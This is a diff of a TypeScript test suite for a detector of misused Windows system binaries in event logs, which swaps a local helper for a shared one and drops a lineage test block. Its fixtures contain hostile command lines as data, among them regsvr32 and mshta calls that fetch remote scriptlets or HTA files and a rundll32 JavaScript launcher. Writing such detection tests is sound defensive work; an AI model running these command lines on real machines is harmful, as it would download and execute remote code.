@@ -1,20 +1,15 @@
 import { describe, expect, it } from "vitest";
-import { anEvent, aStart, testCatalog } from "../../test/support/events.ts";
+import { anEvent, aStart } from "../../test/support/events.ts";
+import { findingsOf } from "../../test/support/findings.ts";
 import { fromPlain, toPlain } from "../events/plain.ts";
 import type { Event } from "../model/event.ts";
-import { createDetector } from "./detector.ts";
 
 const S32 = "C:\\Windows\\System32\\";
-
-function find(events: readonly Event[], minLevel: "informational" | "low" | "medium" = "low") {
-  const detector = createDetector({ catalog: testCatalog(), minLevel });
-  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
-}
 
 describe("one finding for one process start", () => {
   it("names payload, technique and source", () => {
     const start = aStart(0, "A", `${S32}regsvr32.exe`, "regsvr32 /s /i:http://files.example.net/a.sct scrobj.dll");
-    const [finding, ...rest] = find([start]);
+    const [finding, ...rest] = findingsOf([start]);
     expect(rest).toEqual([]);
     expect(finding).toMatchObject({
       schema: "whatran/finding/1",
@@ -35,13 +30,13 @@ describe("one finding for one process start", () => {
     const plain = toPlain(a);
     const moved = fromPlain({ ...plain, record: { ...plain.record, file: "/elsewhere/log.evtx" } });
     const b = aStart(0, "B", `${S32}regsvr32.exe`, line);
-    expect(find([a])[0]?.id).toBe(find([moved])[0]?.id);
-    expect(find([a])[0]?.id).not.toBe(find([b])[0]?.id);
+    expect(findingsOf([a])[0]?.id).toBe(findingsOf([moved])[0]?.id);
+    expect(findingsOf([a])[0]?.id).not.toBe(findingsOf([b])[0]?.id);
   });
 
   it("is silent about a log without arguments", () => {
     expect(
-      find([
+      findingsOf([
         anEvent("processCreation", 0, {
           image: `${S32}rundll32.exe`,
           process: { pid: 4, image: `${S32}rundll32.exe` },
@@ -60,7 +55,7 @@ describe("one finding for one process start", () => {
       { image, commandLine: line, process: { pid: 65, image }, parent: { pid: 1 } },
       { provider: "Microsoft-Windows-Security-Auditing", eventId: 4688 },
     );
-    const findings = find([sysmon, security]);
+    const findings = findingsOf([sysmon, security]);
     expect(findings).toHaveLength(1);
     expect(findings[0]?.related).toEqual([expect.objectContaining({ index: security.record.index, role: "same" })]);
   });
@@ -76,91 +71,11 @@ describe("one finding for one process start", () => {
       provider,
     );
     const sysmon = aStart(0.4, "A", image, line, "?", { originalFileName: "REGSVR32.EXE" });
-    const findings = find([security, sysmon]);
+    const findings = findingsOf([security, sysmon]);
     expect(findings).toHaveLength(1);
     expect(findings[0]).toMatchObject({
       source: { index: sysmon.record.index },
       related: [{ index: security.record.index, role: "same" }],
-    });
-  });
-});
-
-describe("lineage", () => {
-  it("gives the finding of a wrapper to the child that is logged too", () => {
-    const outer = aStart(0, "A", `${S32}cmd.exe`, "cmd /c regsvr32 /s C:\\ProgramData\\a.dll");
-    const inner = aStart(1, "B", `${S32}regsvr32.exe`, "regsvr32 /s C:\\ProgramData\\a.dll", "A");
-    const findings = find([outer, inner]);
-    expect(findings).toHaveLength(1);
-    expect(findings[0]?.source.index).toBe(inner.record.index);
-    expect(findings[0]?.related).toEqual([expect.objectContaining({ index: outer.record.index, role: "wrapper" })]);
-  });
-
-  it("reports the wrapper itself where the child is not logged", () => {
-    const [finding] = find([aStart(0, "A", `${S32}cmd.exe`, "cmd /c regsvr32 /s C:\\ProgramData\\a.dll")]);
-    expect(finding?.behaviour).toBe("windows/regsvr32/register");
-    expect(finding?.binary.name).toBe("regsvr32.exe");
-  });
-
-  it("joins control, rundll32 and its twin to one act", () => {
-    const cpl = "C:\\Users\\a\\Downloads\\t.cpl";
-    const first = aStart(0, "A", `${S32}control.exe`, `control "${cpl}",`);
-    const second = aStart(1, "B", `${S32}rundll32.exe`, `rundll32 Shell32.dll,Control_RunDLL "${cpl}",`, "A");
-    const third = aStart(
-      2,
-      "C",
-      "C:\\Windows\\SysWOW64\\rundll32.exe",
-      `rundll32 "C:\\Windows\\SysWOW64\\shell32.dll",#44 "${cpl}",`,
-      "B",
-    );
-    const findings = find([first, second, third]);
-    expect(findings).toHaveLength(1);
-    expect(findings[0]?.source.index).toBe(first.record.index);
-    expect(findings[0]?.related.map(({ index, role }) => [index, role])).toEqual([
-      [second.record.index, "step"],
-      [third.record.index, "step"],
-    ]);
-  });
-
-  it("takes rundll32 for the first step where nothing stands before it", () => {
-    const cpl = "C:\\PROGRA~3\\X~1.DLL";
-    const first = aStart(0, "B", `${S32}rundll32.exe`, `rundll32 shell32.dll,Control_RunDLL ${cpl} 42`);
-    const line = `"C:\\Windows\\SysWOW64\\rundll32.exe" "C:\\Windows\\SysWOW64\\shell32.dll",#44 ${cpl} 42`;
-    const second = aStart(1, "C", "C:\\Windows\\SysWOW64\\rundll32.exe", line, "B");
-    const late = aStart(70, "D", "C:\\Windows\\SysWOW64\\rundll32.exe", line, "B");
-    const findings = find([first, second, late]);
-    expect(findings.map(({ source }) => source.index)).toEqual([first.record.index, late.record.index]);
-    expect(findings[0]?.related).toContainEqual(expect.objectContaining({ index: second.record.index, role: "step" }));
-  });
-
-  it("leaves out what the child says where the wrapper wraps several", () => {
-    const outer = aStart(0, "A", `${S32}cmd.exe`, "cmd /c rundll32 C:\\ProgramData\\a.dll,Run");
-    const inner = aStart(1, "B", `${S32}rundll32.exe`, "rundll32 C:\\ProgramData\\a.dll,Run", "A");
-    const twice = find([outer, inner, inner]);
-    expect(twice).toHaveLength(1);
-    expect(twice[0]?.related).toEqual([expect.objectContaining({ index: outer.record.index, role: "wrapper" })]);
-  });
-
-  it("says of a parent that is not in the log nothing that its child says by itself", () => {
-    const inner = "mshta http://203.0.113.5/x.hta";
-    const child = (parentCommandLine: string, image: string) =>
-      aStart(0, "B", `${S32}mshta.exe`, inner, "A", { parent: { key: "id:A", image }, parentCommandLine });
-    expect(find([child(`cmd /c ${inner}`, `${S32}cmd.exe`)])).toHaveLength(1);
-    const script = `rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";new ActiveXObject("WScript.Shell").Run("${inner}")`;
-    expect(find([child(script, `${S32}rundll32.exe`)]).map(({ behaviour }) => behaviour)).toEqual([
-      "windows/mshta/remote-application",
-      "windows/rundll32/script",
-    ]);
-  });
-
-  it("judges a parent that is not in the log by what its child's event says", () => {
-    const child = aStart(0, "B", `${S32}cmd.exe`, "cmd.exe", "A", {
-      parent: { key: "id:A", image: `${S32}mshta.exe` },
-      parentCommandLine: "mshta http://203.0.113.5/x.hta",
-    });
-    const [finding] = find([child], "medium");
-    expect(finding).toMatchObject({
-      behaviour: "windows/mshta/remote-application",
-      source: { index: child.record.index },
     });
   });
 });
@@ -181,7 +96,7 @@ it("tells once what one record says twice", () => {
     { path, name: "x", commandLine: line, dialect: "commandLine", process: {} },
     record,
   );
-  expect(find([write, entry])).toHaveLength(1);
+  expect(findingsOf([write, entry])).toHaveLength(1);
 });
 
 describe("effects of a binary whose start is not logged", () => {
@@ -189,7 +104,7 @@ describe("effects of a binary whose start is not logged", () => {
   const path = "HKLM\\Software\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)";
   const write = (value: string) => anEvent("registryKeyModification", 0, { process, path, action: "setValue", value });
   it("are a finding where the library lies in an odd place, once", () => {
-    const findings = find([write("D:\\drop\\a.dll"), write("D:\\drop\\a.dll")], "medium");
+    const findings = findingsOf([write("D:\\drop\\a.dll"), write("D:\\drop\\a.dll")], { minLevel: "medium" });
     expect(findings).toHaveLength(1);
     expect(findings[0]).toMatchObject({
       behaviour: "windows/regsvr32/register",
@@ -197,9 +112,9 @@ describe("effects of a binary whose start is not logged", () => {
     });
   });
   it("are none where software is installed, or where the start is known", () => {
-    expect(find([write("C:\\Program Files\\V\\a.dll")])).toEqual([]);
+    expect(findingsOf([write("C:\\Program Files\\V\\a.dll")])).toEqual([]);
     const start = aStart(0, "Z", `${S32}regsvr32.exe`, "regsvr32 /s D:\\drop\\a.dll");
-    expect(find([start, write("D:\\drop\\a.dll")])).toHaveLength(1);
+    expect(findingsOf([start, write("D:\\drop\\a.dll")])).toHaveLength(1);
   });
 });
 
@@ -207,7 +122,7 @@ describe("corroboration", () => {
   const dll = "C:\\ProgramData\\a.dll";
   const start = () => aStart(10, "A", `${S32}regsvr32.exe`, `regsvr32 /s ${dll}`);
   const process = { key: "id:A", image: `${S32}regsvr32.exe` };
-  const ids = (events: readonly Event[]) => find(events)[0]?.evidence.map(({ id }) => id);
+  const ids = (events: readonly Event[]) => findingsOf(events)[0]?.evidence.map(({ id }) => id);
 
   it("sees the payload loaded, and that it is not signed", () => {
     const load = (signed: boolean) =>
@@ -238,8 +153,8 @@ describe("corroboration", () => {
     const explorer = { parent: { key: "id:X", pid: 88, image: "C:\\Windows\\explorer.exe" } };
     const install = aStart(0, "I", image, "InfDefaultInstall.exe C:\\Users\\a\\Downloads\\d\\a.inf", "X", explorer);
     const script = anEvent("moduleLoad", 1, { process: { key: "id:I", image }, module: `${S32}scrobj.dll` });
-    expect(find([install], "medium")).toEqual([]);
-    expect(find([install, script], "medium")).toHaveLength(1);
+    expect(findingsOf([install], { minLevel: "medium" })).toEqual([]);
+    expect(findingsOf([install, script], { minLevel: "medium" })).toHaveLength(1);
   });
 
   it("sees connections to the outside only", () => {
@@ -258,7 +173,7 @@ it("weighs what a service runs as it stops less than what it runs as it starts",
       platform: "linux",
       trigger,
     });
-  const [[atStart], [atStop]] = [find([job("multi-user.target")]), find([job("when stopped")])];
+  const [[atStart], [atStop]] = [findingsOf([job("multi-user.target")]), findingsOf([job("when stopped")])];
   expect([atStart?.level, atStop?.level]).toEqual(["medium", "low"]);
   expect(atStop?.evidence.map(({ text }) => text)).toContain("A service named filter.service runs it as it stops.");
 });
@@ -273,7 +188,7 @@ it("finds the Lazarus Group's shortcut: wuauclt with a library, in a Startup fol
     startup: true,
     oddities: [],
   });
-  const [finding] = find([shortcut]);
+  const [finding] = findingsOf([shortcut]);
   expect(finding).toMatchObject({ behaviour: "windows/wuauclt/load-library", dataComponents: ["File Metadata"] });
   expect(finding?.evidence.map(({ id }) => id)).toContain("persistence");
   expect(["high", "critical"]).toContain(finding?.level);
@@ -292,5 +207,5 @@ it("tells of a service once, however late a copy of its record comes", () => {
       { file, recordId: 7 },
     );
   const later = anEvent("fileCreation", 4000, { path: "C:\\a.txt", action: "create", process: { key: "id:W" } });
-  expect(find([service("a.evtx"), later, service("b.evtx")])).toHaveLength(1);
+  expect(findingsOf([service("a.evtx"), later, service("b.evtx")])).toHaveLength(1);
 });
